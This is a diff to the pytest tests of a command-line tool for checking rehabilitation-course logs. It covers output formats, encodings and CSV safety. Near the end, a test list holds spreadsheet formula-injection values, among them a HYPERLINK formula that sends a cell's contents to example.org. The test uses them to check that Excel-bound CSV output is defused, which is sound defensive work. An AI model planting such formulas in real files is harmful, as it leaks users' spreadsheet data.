@@ -1,7 +1,10 @@
 """The command line: its options, where it writes, and how it ends."""
 
+import csv
+import io
 import json
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -11,6 +14,7 @@ from typing import Any
 
 import pytest
 from conftest import VECTORS, Command
+from rehab_rules import InputError, ServiceDescription
 from story import (
     ATTACHED_1,
     CONFIRMED_TOO_EARLY,
@@ -19,6 +23,7 @@ from story import (
     DECLARED,
     LATE,
     OTHER_PROVIDER,
+    SERVICE,
     STORY,
     UNKNOWN_COURSE,
     event,
@@ -26,6 +31,7 @@ from story import (
 
 Write = Callable[..., Path]
 PROGRAM = [sys.executable, "-m", "rehab_rules"]
+CARERS = Path(__file__).parents[2] / "rehab-rules" / "services" / "kela.family-carers.json"
 
 
 def said(text: str) -> list[dict[str, Any]]:
@@ -299,8 +305,7 @@ def test_messages_come_with_a_language_only(language: str, message: str, command
 @pytest.fixture
 def small_groups(write: Write) -> Path:
     """A service description: the carers' one with groups of two to four."""
-    built_in = Path(__file__).parents[2] / "rehab-rules" / "services" / "kela.family-carers.json"
-    service = json.loads(built_in.read_text("utf-8"))
+    service = json.loads(CARERS.read_text("utf-8"))
     service = service[0] if isinstance(service, list) else service
     service |= {"group_size": {"min": 2, "max": 8}}
     return write("small.json", json.dumps(service))
@@ -454,9 +459,17 @@ def test_the_log_is_not_overwritten(command: Command, write: Write) -> None:
         (["replay", "-", "--format", "parquet", "--output", "-"], "--format parquet is written to a file; name it with --output"),
         (["check", "-"], "records are not read from standard input; name a file"),
         (["replay", "-", "--format", "csv", "--sort"], "--sort and --remedies go with --format table or jsonl, not with csv"),
-        (["search", "-", "--as-of", "2026-01-01", "--format", "csv"], "a search is shown as table or jsonl, not as csv"),
-        (["search", "-", "--as-of", "2026-01-01", "--effect", "notice"], "a search shows courses and has no findings"),
-        (["search", "-", "--as-of", "2026-01-01", "--remedies"], "a search shows courses and has no findings"),
+        (["search", "-", "--as-of", "2026-01-01", "--format", "csv"], 'Invalid value "csv" for --format. Choose from: "table", "jsonl".'),
+        (["search", "-", "--as-of", "2026-01-01", "--effect", "notice"], "Unknown option: --effect."),
+        (["search", "-", "--as-of", "2026-01-01", "--remedies"], "Unknown option: --remedies."),
+        (["search", "-", "--as-of", "2026-01-01", "--excel"], "Unknown option: --excel."),
+        (["search", "-", "--as-of", "2026-01-01", "--output", "out.csv"], "out.csv: csv is not offered here, but table, jsonl; say with --format which"),
+        (["compare", "-", "--service", str(CARERS), "--output", "out.ics"], "out.ics: ics is not offered here, but table, jsonl, html; say with --format which"),
+        (["replay", "-", "--excel"], "--excel goes with --format csv, not with table"),
+        (["audit", "-", "--as-of", "2026-01-01", "--excel", "--format", "parquet", "--output", "out.csv"], "--excel goes with --format csv, not with parquet"),
+        (["audit", "-", "--as-of", "2026-01-01", "--private"], "--private goes with --format ics, not with table"),
+        (["audit", "-", "--as-of", "2026-01-01", "--private", "--output", "out.html"], "--private goes with --format ics, not with html"),
+        (["replay", "-", "--private", "--format", "csv"], "Unknown option: --private."),
         (["replay", "-", "--effect", "permission"], 'Invalid value "permission" for --effect.'),
         (["replay", "-", "--language", "de"], 'Invalid value "de" for --language.'),
         (["replay", "-", "--mode", "strict"], 'Invalid value "strict" for --mode.'),
@@ -502,21 +515,28 @@ def test_help_and_version(command: Command) -> None:
     assert (shown.status, shown.out) == (0, f"rehab-rules {version('rehab-rules')}, rules version 2\n")
     told = " ".join(command("--help").out.split())
     assert all(f"{status} {why}" in told for status, why in enumerate(("nothing prohibited", "some finding", "some line", "nothing was judged")))
-    for name, options in (("replay", ["--sort", "--effect"]), ("audit", ["--as-of", "--within"])):
+    for name, options in (("replay", ["--sort", "--effect", "--excel"]), ("audit", ["--as-of", "--within", "--private"])):
         answer = command(name, "--help")
         assert answer.status == 0
         assert all(option in answer.out for option in options)
         assert "whole log in memory" in " ".join(answer.out.replace("│", " ").split())
 
 
+TABLES = {"--date-format", "--decimal", "--list-separator", "--encoding"}
+
+
+def test_the_help_of_search_lists_what_search_takes(command: Command) -> None:
+    answer = command("search", "--help")
+    listed = set(re.findall(r"^│ \*? +(--[a-z-]+)", answer.out, re.MULTILINE))
+    assert listed == {"--as-of", "--mode", "--service", "--language", "--output", "--sort", "--fail-on", "--format"} | TABLES
+    assert "parquet]" not in answer.out and "choices: table, jsonl]" in " ".join(answer.out.replace("│", " ").split())
+
+
 def test_a_broken_pipe_ends_quietly(write: Write) -> None:
-    log = write("log.jsonl", *[DECLARED] * 20_000)
-    for form in ("jsonl", "table"):
-        effect = [] if form == "jsonl" else ["--effect", "notice"]
-        large = write("large.jsonl", *[f"{n}" for n in range(5_000)]) if form == "table" else log
-        with subprocess.Popen(
-            [*PROGRAM, "replay", str(large), "--format", form, *effect], stdout=subprocess.PIPE, stderr=subprocess.PIPE
-        ) as program:
+    refused = [event("2026-01-02", f"P{n}", "end_rehabilitation", client="K1", **SERVICE) for n in range(5_000)]
+    log = write("log.jsonl", *refused)
+    for form in ("jsonl", "table", "csv"):
+        with subprocess.Popen([*PROGRAM, "replay", str(log), "--format", form], stdout=subprocess.PIPE, stderr=subprocess.PIPE) as program:
             assert program.stdout and program.stderr
             assert program.stdout.readline()
             program.stdout.close()
@@ -552,3 +572,147 @@ def test_nothing_but_line_feeds_ends_lines(write: Write) -> None:
     table = subprocess.run([*PROGRAM, "replay", str(log), "--language", "fi"], capture_output=True, check=False, env=environment)
     assert (table.returncode, table.stderr) == (1, b"")
     assert "ei voi vielä vahvistaa" in table.stdout.decode("cp1252")
+
+
+WINDOWS = {"PYTHONIOENCODING": "cp1252", "PYTHONUTF8": "0"}
+PLAIN = {"LANG": "C", "LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0", "PYTHONIOENCODING": "ascii"}
+FOREIGN = [line.replace('"K1"', '"Łódź-1"').replace('"P1"', '"Käpylä ✓"').replace('"C1"', '"Kurssi 東"') for line in STORY]
+
+
+def printed(*words: object, **environment: str) -> subprocess.CompletedProcess[bytes]:
+    """The program with its standard output redirected."""
+    environment = {name: value for name, value in os.environ.items() if name not in ("COLUMNS", "FORCE_COLOR")} | environment
+    return subprocess.run([*PROGRAM, *map(str, words)], capture_output=True, check=False, env=environment)
+
+
+@pytest.mark.parametrize("environment", [WINDOWS, PLAIN], ids=["cp1252", "C"])
+@pytest.mark.parametrize(
+    "words",
+    [
+        *(("replay", "--format", form) for form in ("csv", "jsonl", "html")),
+        *(("audit", "--as-of", "2026-07-01", "--format", form) for form in ("csv", "jsonl", "html", "ics")),
+        ("search", "--as-of", "2026-07-01", "--format", "jsonl"),
+        *(("compare", "--format", form) for form in ("jsonl", "html")),
+    ],
+    ids=" ".join,
+)
+def test_what_is_for_programs_is_utf_8_whatever_the_code_page(
+    words: tuple[str, ...], environment: dict[str, str], command: Command, write: Write, small_groups: Path, tmp_path: Path
+) -> None:
+    published = event("2026-01-08", "Käpylä ✓", "publish_course", course="Kurssi 東", checked=True)
+    log, file = write("log.jsonl", *FOREIGN[:4], published, *FOREIGN[4:]), tmp_path / "out"
+    options = ("--language", "fi", "--service", small_groups) if words[0] == "compare" else ("--language", "fi")
+    written = command(words[0], log, *words[1:], *options, "--output", file)
+    answer = printed(words[0], log, *words[1:], *options, **environment)
+    assert (answer.returncode, answer.stderr) == (written.status, b"")
+    assert answer.stdout == file.read_bytes()
+    assert "東" in answer.stdout.decode("utf-8").replace("\r\n ", "")
+
+
+def test_a_record_is_told_in_utf_8_whatever_the_code_page() -> None:
+    words = ("check", WITH_FAILINGS, "--format", "jsonl", "--language", "fi")
+    assert printed(*words, **PLAIN).stdout == printed(*words, PYTHONUTF8="1").stdout != b""
+
+
+@pytest.mark.parametrize(("environment", "encoding", "shown"), [(WINDOWS, "cp1252", "Käpylä \\u2713"), (PLAIN, "ascii", "K\\xe4pyl\\xe4 \\u2713")])
+def test_a_table_loses_no_letter_without_a_sign(environment: dict[str, str], encoding: str, shown: str, write: Write) -> None:
+    answer = printed("replay", write("log.jsonl", *FOREIGN), "--language", "fi", **environment)
+    assert (answer.returncode, answer.stderr) == (1, b"")
+    table = answer.stdout.decode(encoding)
+    assert f"Palveluntuottaja {shown}\n{'=' * 100}\n" in table and "?" not in table
+    assert "Kurssi \\u6771 ---" in table and "\\u0141" in table and "\\u2550" not in table
+
+
+@pytest.mark.parametrize(
+    ("name", "begins"),
+    [
+        ("out.html", b"<!DOCTYPE html>"), ("OUT.HTM", b"<!DOCTYPE html>"), ("out.csv", b"line,provider,"), ("out.ics", b"BEGIN:VCALENDAR"), ("out.jsonl", b'{"provider":'),
+        ("out.ndjson", b'{"provider":'), ("out.parquet", b"PAR1"), ("out.txt", b"Tilanne 1.7.2026\n"), ("out", b"Tilanne 1.7.2026\n"), ("csv", b"Tilanne 1.7.2026\n"),
+    ],
+)  # fmt: skip
+def test_the_format_follows_the_suffix_of_the_output(name: str, begins: bytes, command: Command, write: Write, tmp_path: Path) -> None:
+    log, out = write("log.jsonl", *STORY), tmp_path / name
+    assert command("audit", log, "--as-of", "2026-07-01", "--language", "fi", "--output", out).status == 1
+    assert out.read_bytes().lstrip(b"\n").startswith(begins)
+    # A format that is told wins.
+    out.unlink()
+    assert command("audit", log, "--as-of", "2026-07-01", "--format", "jsonl", "--output", out).status == 1
+    assert out.read_bytes().startswith(b'{"provider":')
+
+
+def test_the_formats_of_search_and_compare_follow_the_suffix_too(command: Command, write: Write, small_groups: Path, tmp_path: Path) -> None:
+    log, page, lines = write("log.jsonl", *STORY), tmp_path / "out.html", tmp_path / "out.jsonl"
+    for out, form in ((page, "html"), (lines, "jsonl")):
+        assert command("compare", log, "--service", small_groups, "--output", out).status == 1
+        assert out.read_bytes().decode() == command("compare", log, "--service", small_groups, "--format", form).out
+    published = write("published.jsonl", *STORY[:4], event("2026-01-08", "P1", "publish_course", course="C1", checked=True))
+    assert command("search", published, "--as-of", "2026-02-01", "--output", lines).status == 0
+    assert lines.read_bytes().startswith(b'{"provider":"P1","course":"C1"')
+
+
+def test_a_byte_order_mark_before_a_description_or_a_record_is_read_over(command: Command, small_groups: Path, write: Write, tmp_path: Path) -> None:
+    log, service, record = write("log.jsonl", *STORY), tmp_path / "service.json", tmp_path / "record.json"
+    service.write_bytes(b"\xef\xbb\xbf" + small_groups.read_bytes())
+    assert command("replay", log, "--service", service) == command("replay", log, "--service", small_groups)
+    assert command("compare", log, "--service", service).status == 1
+    record.write_bytes(b"\xef\xbb\xbf" + WITH_FAILINGS.read_bytes())
+    plain, marked = (command("check", file, "--service", service, "--format", "jsonl") for file in (WITH_FAILINGS, record))
+    assert marked == plain and plain.status == 1
+    described = [ServiceDescription.from_file(path).ids for path in (service, small_groups)]
+    assert described[0] == described[1]
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
+def test_utf_16_is_named_and_what_to_do(encoding: str, command: Command, small_groups: Path, write: Write, tmp_path: Path) -> None:
+    service, record = tmp_path / "service.json", tmp_path / "record.json"
+    service.write_bytes(small_groups.read_text("utf-8").encode(encoding))
+    record.write_bytes(WITH_FAILINGS.read_text("utf-8").encode(encoding))
+    told = "this file is UTF-16; save it as UTF-8"
+    answer = command("replay", write("log.jsonl", *STORY), "--service", service)
+    assert (answer.status, answer.out, answer.err) == (3, "", f"rehab-rules: {service}: {told}\n")
+    # Such a record cannot be read: of several that is 2, and 3 when none could.
+    answer = command("check", record, WITH_FAILINGS, "--format", "jsonl")
+    assert (answer.status, answer.err) == (2, f"rehab-rules: {record}: {told}\n") and answer.out
+    answer = command("check", record)
+    assert (answer.status, answer.out, answer.err) == (3, "", f"rehab-rules: {record}: {told}\n")
+    with pytest.raises(InputError, match=told) as raised:
+        ServiceDescription.from_file(service)
+    assert (raised.value.code, raised.value.field) == ("invalid_value", None)
+
+
+def test_a_log_with_a_byte_order_mark_is_as_the_contract_has_it(command: Command) -> None:
+    answer = command("replay", "-", "--format", "jsonl", stdin=b"\xef\xbb\xbf" + "".join(f"{line}\n" for line in STORY).encode())
+    first = said(answer.out)[0]
+    assert answer.status == 2 and first["error"]["code"] == "invalid_value" and "field" not in first["error"]
+
+
+WILD = ["=HYPERLINK(\"http://example.org/?\"&A1)", "+1", "-1", "@x", "\t=1", "\r=1"]
+
+
+def test_csv_for_excel_has_a_mark_semicolons_and_no_formula(command: Command, write: Write, tmp_path: Path) -> None:
+    ids = [*WILD, "K;1", "a=1", "Łódź"]
+    log = write("log.jsonl", *(event("2026-01-02", "P1", "end_rehabilitation", client=id, **SERVICE) for id in ids))
+    answers = {excel: printed("replay", log, "--format", "csv", "--language", "fi", *(["--excel"] if excel else [])).stdout for excel in (True, False)}
+    assert answers[True].startswith(b"\xef\xbb\xbf") and not answers[False].startswith(b"\xef\xbb\xbf")
+    text = {True: answers[True].decode("utf-8-sig"), False: answers[False].decode()}
+    plain = list(csv.reader(io.StringIO(text[False], newline="")))
+    defused = list(csv.reader(io.StringIO(text[True], newline=""), delimiter=";"))
+    assert len(plain) == len(defused) == len(ids) + 1
+    place = plain[0].index("client")
+    assert [row[place] for row in plain[1:]] == ids
+    assert [row[place] for row in defused[1:]] == [*(f"'{id}" for id in WILD), *ids[len(WILD) :]]
+    # All else is the same: days, true and false, numbers.
+    assert [[*row[:place], *row[place + 1 :]] for row in plain] == [[*row[:place], *row[place + 1 :]] for row in defused]
+    assert {"2026-01-02", "false"} <= set(defused[1])
+    file = tmp_path / "out.csv"
+    assert command("replay", log, "--language", "fi", "--output", file, "--excel").status == 1
+    assert file.read_bytes() == answers[True]
+
+
+def test_a_row_of_csv_stays_one_row_whatever_is_in_an_id(write: Write) -> None:
+    ids = ["K\rfalse\rK2", "K\n1", "K\r\n1", 'K"1', "K\r", " K ", "K\r\n"]
+    log = write("log.jsonl", *(event("2026-01-02", "P1", "end_rehabilitation", client=id, **SERVICE) for id in ids))
+    text = printed("replay", log, "--format", "csv").stdout.decode()
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [row["client"] for row in rows] == ids
+    assert '"K\rfalse\rK2"' in text and not text.endswith("\r\n")
